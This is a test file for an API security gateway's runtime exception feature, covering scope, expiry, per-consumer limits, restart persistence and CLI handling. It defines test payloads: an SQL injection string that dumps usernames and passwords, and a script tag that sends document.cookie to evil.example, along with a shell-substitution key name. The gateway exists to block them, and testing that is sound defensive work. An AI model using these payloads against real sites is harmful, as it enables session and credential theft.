import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import { after, before, describe, test } from 'node:test';
import { call, echoUpstream, sallyport, TestGateway } from '../harness/gateway.ts';

const SQL = "1' UNION SELECT username, password FROM users--";
const SCRIPT = '<script>fetch("//evil.example/?"+document.cookie)</script>';
const JSON_TYPE = { 'content-type': 'application/json' };
const DAY_MS = 86_400_000;
/** Enough connections for the kernel to spread them over both threads. */
const TRIES = 12;

const CONFIG = (url: string) => `mode: enforce
upstreams: { api: { url: "${url}" } }
apiKeys: { brand: acme }
authenticators: { key: { type: api-key, header: x-api-key } }
routes:
  - id: notes
    match: { path: "/notes/*" }
    upstream: api
    authenticate: none
    inspect: { payload: { learn: false, exceptions: [{ path: body.template, class: sqli, expires: 2999-01-01 }] } }
  - id: pages
    match: { path: "/pages/*" }
    upstream: api
    authenticate: none
    inspect: { payload: default }
  - id: own
    match: { path: "/own/*" }
    upstream: api
    authenticate: { anyOf: [key] }
    inspect: { payload: default }
  - id: plain
    match: { path: "/plain/*" }
    upstream: api
    authenticate: none
`;

describe('exceptions that are added to a running gateway', () => {
  let upstream: Awaited<ReturnType<typeof echoUpstream>>;
  let gateway: TestGateway;
  before(async () => {
    upstream = await echoUpstream();
    gateway = await TestGateway.start({ workers: 2, config: CONFIG(upstream.url) });
  });
  after(async () => {
    await gateway.stop();
    // It was started again in the same folder, which is then kept.
    rmSync(gateway.folder, { recursive: true, force: true });
    await upstream.close();
  });

  const post = (path: string, body: unknown, headers: Record<string, string> = {}) =>
    call(`${gateway.url}${path}`, {
      method: 'POST',
      headers: { ...JSON_TYPE, ...headers },
      body: JSON.stringify(body),
    });
  /** Statuses of many calls on connections of their own. */
  const statuses = async (path: string, body: unknown, headers: Record<string, string> = {}) => {
    const answers = await Promise.all(Array.from({ length: TRIES }, () => post(path, body, headers)));
    return [...new Set(answers.map(({ status }) => status))];
  };
  const add = (body: unknown) => gateway.admin('POST', '/api/v1/exceptions', body);
  const listed = async () =>
    (await gateway.admin('GET', '/api/v1/exceptions')).body['items'] as Record<string, unknown>[];

  test('are in force on every thread when they are answered, and no longer when their removal is', async () => {
    assert.deepEqual(await statuses('/notes/1', { a: SQL }), [403]);
    const { status, body } = await add({ route: 'notes', path: 'body.a', class: 'sqli', days: 30, reason: 'a test' });
    assert.equal(status, 200, JSON.stringify(body));
    assert.deepEqual(await statuses('/notes/1', { a: SQL }), [200]);
    assert.deepEqual(await statuses('/notes/1', { b: SQL }), [403]);
    assert.deepEqual(await statuses('/notes/1', { a: SCRIPT }), [403]);
    assert.deepEqual(await statuses('/pages/1', { a: SQL }), [403]);
    const removed = await gateway.admin('DELETE', `/api/v1/exceptions/${String(body['id'])}`);
    assert.equal(removed.status, 200);
    assert.deepEqual(await statuses('/notes/1', { a: SQL }), [403]);
    assert.equal((await gateway.admin('DELETE', `/api/v1/exceptions/${String(body['id'])}`)).status, 404);
  });

  test('say who added them, when and why, how often each let something through and when last, also after a restart', async () => {
    const before = Date.now();
    const added = await add({ route: 'notes', path: 'body.counted.*', class: 'sqli', days: 2, reason: 'the importer' });
    const { id } = added.body;
    const ofList = async () => (await listed()).find((one) => one['id'] === id) ?? {};
    assert.equal((await ofList())['letThrough'], 0);
    assert.equal((await ofList())['lastUsedMs'], 0);
    for (let i = 0; i < 3; i++) assert.equal((await post('/notes/counted', { counted: { deep: SQL } })).status, 200);
    assert.equal((await post('/notes/counted', { counted: { deep: SQL }, other: SCRIPT })).status, 403);
    assert.equal((await post('/notes/counted', { counted: { deep: 'nothing' } })).status, 200);
    // A call is recorded once its answer has gone.
    await gateway.recorded(5, ({ path }) => path === '/notes/counted');
    const one = await ofList();
    assert.equal(one['letThrough'], 3);
    assert.ok(Number(one['lastUsedMs']) >= before);
    assert.equal(one['addedBy'], 'admin token');
    assert.equal(one['reason'], 'the importer');
    assert.ok(Number(one['addedMs']) >= before);
    assert.ok(Math.abs(Number(one['expiresMs']) - (Number(one['addedMs']) + 2 * DAY_MS)) < 1_000);

    await post('/notes/template', { template: SQL });
    await gateway.recorded(1, ({ path }) => path === '/notes/template');
    const configured = (await listed()).find((each) => each['source'] === 'configuration');
    assert.equal(configured?.['letThrough'], 1);

    gateway.child.kill('SIGTERM');
    await new Promise((resolve) => gateway.child.once('exit', resolve));
    gateway = await TestGateway.start({ workers: 2, folder: gateway.folder, config: CONFIG(upstream.url) });
    const kept = await ofList();
    assert.equal(kept['letThrough'], 3);
    assert.equal(kept['reason'], 'the importer');
    assert.deepEqual(await statuses('/notes/counted', { counted: { deep: SQL } }), [200]);
  });

  test('of one consumer are nobody else’s', async () => {
    const [acme, other] = [await gateway.createKey('acme'), await gateway.createKey('other')];
    await add({ route: 'own', path: 'body.a', class: 'sqli', consumer: 'acme', days: 1 });
    assert.deepEqual(await statuses('/own/1', { a: SQL }, { 'x-api-key': acme.key }), [200]);
    assert.deepEqual(await statuses('/own/1', { a: SQL }, { 'x-api-key': other.key }), [403]);
  });

  test('never turn a class off everywhere, last at most a year, and name nothing that is no attack in a value', async () => {
    const codeOf = async (body: unknown) => {
      const answer = await add(body);
      return `${answer.status} ${String(answer.body['code'])}`;
    };
    const good = { route: 'notes', path: 'body.x', class: 'sqli', days: 1 };
    assert.equal(await codeOf({ class: 'sqli', days: 1 }), '422 exception_everywhere');
    assert.equal(await codeOf({ class: 'sqli', days: 1, route: '', path: '' }), '422 exception_everywhere');
    assert.equal(await codeOf({ ...good, path: '*' }), '422 path_invalid');
    assert.equal(await codeOf({ ...good, path: 'body.*.x' }), '422 path_invalid');
    assert.equal(await codeOf({ ...good, route: 'nowhere' }), '422 route_unknown');
    assert.equal(await codeOf({ ...good, route: 'plain' }), '422 route_inspects_nothing');
    for (const days of [0, -1, 366, 1.5, undefined]) assert.equal(await codeOf({ ...good, days }), '400 body_invalid');
    for (const other of ['*', 'decoy', 'framing', 'malformed', 'suspicious', 'unscanned', 'payload.sqli', ''])
      assert.equal(await codeOf({ ...good, class: other }), '400 body_invalid');
    assert.ok((await listed()).every((one) => one['path'] !== 'body.x'));
  });

  test('of a path alone count on every route that looks for attacks, of a route alone at every place of it', async () => {
    const wide = await add({ path: 'query.search', class: 'sqli', days: 1 });
    for (const route of ['notes', 'pages'])
      assert.equal((await call(`${gateway.url}/${route}/1?search=${encodeURIComponent(SQL)}`)).status, 200);
    assert.equal((await call(`${gateway.url}/notes/1?other=${encodeURIComponent(SQL)}`)).status, 403);
    await gateway.admin('DELETE', `/api/v1/exceptions/${String(wide.body['id'])}`);
    await add({ route: 'pages', class: 'sqli', days: 1 });
    assert.deepEqual(await statuses('/pages/1', { a: { b: [SQL] } }), [200]);
    assert.deepEqual(await statuses('/pages/1', { a: { b: [SCRIPT] } }), [403]);
    assert.deepEqual(await statuses('/notes/1', { a: { b: [SQL] } }), [403]);
  });

  test('let no body pass that can be read in two ways, and no call that cannot be framed', async () => {
    await add({ route: 'pages', class: 'sqli', days: 1 });
    const twice = await call(`${gateway.url}/pages/1`, {
      method: 'POST',
      headers: JSON_TYPE,
      body: `{"a":1,"a":"${SQL}"}`,
    });
    assert.equal(twice.status, 400);
    assert.equal((await call(`${gateway.url}/pages/%zz?a=${encodeURIComponent(SQL)}`)).status, 400);
  });

  test('of the configuration are not taken back by command', async () => {
    const configured = (await listed()).find((one) => one['source'] === 'configuration');
    const answer = await gateway.admin('DELETE', `/api/v1/exceptions/${String(configured?.['id'])}`);
    assert.equal(answer.status, 409);
    assert.deepEqual(await statuses('/notes/1', { template: SQL }), [200]);
  });

  test('are added by the very command that explain prints, whatever the names of keys are', async () => {
    for (const key of ['plain', "it's $(here)", 'list[]', 'a.b']) {
      const body = { outer: { [key]: [SQL] } };
      const refused = await post('/notes/2', body);
      assert.equal(refused.status, 403);
      const id = String(refused.headers['sallyport-request-id']);
      const { stdout } = await gateway.cli(['explain', id]);
      const printed =
        /exception: sallyport (exceptions add --route notes --path (?:'[^']*'|\S+) --class sqli --for 30d)/.exec(
          stdout,
        );
      assert.ok(printed, stdout);
      const words = [...String(printed[1]).matchAll(/'([^']*)'|(\S+)/g)].map((word) => word[1] ?? word[2] ?? '');
      const added = await gateway.cli(words);
      assert.equal(added.code, 0, added.stderr);
      assert.equal((await post('/notes/2', body)).status, 200);
      assert.deepEqual(await statuses('/notes/2', { outer: { [`${key}x`]: [SQL] } }), [403]);
    }
    const { stdout } = await gateway.cli(['exceptions', 'list', '--route', 'notes']);
    assert.match(stdout, /body\.outer\.plain\[\]\s+sqli\s+everybody/);
    assert.match(stdout, /body\.template\s+sqli\s.*configuration/);
    const [, id = ''] = /([0-9a-f]{12})\s+notes\s+body\.outer\.plain/.exec(stdout) ?? [];
    assert.equal((await gateway.cli(['exceptions', 'remove', id])).code, 0);
    assert.deepEqual(await statuses('/notes/2', { outer: { plain: [SQL] } }), [403]);
  });
});

test('an exception of a route is not that of another that takes its name', { timeout: 60_000 }, async () => {
  const upstream = await echoUpstream();
  const gateway = await TestGateway.start({ config: CONFIG(upstream.url) });
  try {
    const load = async (text: string) => {
      const { fingerprint } = (await gateway.admin('GET', '/api/v1/config')).body;
      const answer = await gateway.admin('PUT', '/api/v1/config', { text, ifFingerprint: fingerprint });
      assert.equal(answer.status, 200, JSON.stringify(answer.body));
    };
    const statusOf = async (path: string) => (await call(`${gateway.url}${path}?a=${encodeURIComponent(SQL)}`)).status;
    const warnings = async () =>
      ((await gateway.admin('GET', '/api/v1/exceptions')).body['items'] as Record<string, unknown>[])
        .filter(({ source }) => source === 'added')
        .map((one) => one['warnings']);
    const begun = String((await gateway.admin('GET', '/api/v1/config')).body['text']);
    await gateway.admin('POST', '/api/v1/exceptions', { route: 'pages', path: 'query.a', class: 'sqli', days: 1 });
    assert.equal(await statusOf('/pages/1'), 200);
    await load(begun.replace('"/pages/*"', '"/accounts/*"'));
    assert.equal(await statusOf('/accounts/1'), 403);
    assert.deepEqual(await warnings(), [['route_gone']]);
    await load(begun.replace('id: pages', 'id: sites'));
    assert.equal(await statusOf('/pages/1'), 403);
    await load(begun);
    assert.equal(await statusOf('/pages/1'), 200);
    assert.deepEqual(await warnings(), [[]]);
  } finally {
    await gateway.stop();
    await upstream.close();
  }
});

test('the command says what it lacks before it asks anybody', async () => {
  for (const [args, said] of [
    [['add', '--class', 'sqli', '--for', '30d'], /--route, --path/],
    [['add', '--route', 'notes', '--for', '30d'], /--class/],
    [['add', '--route', 'notes', '--class', 'sqli'], /--for/],
    [['add', '--route', 'notes', '--class', 'sqli', '--for', '30h'], /days/],
    [['remove'], /id of an exception/],
  ] as const) {
    const { code, stderr } = await sallyport(['exceptions', ...args]);
    assert.equal(code, 2);
    assert.match(stderr, said);
  }
});
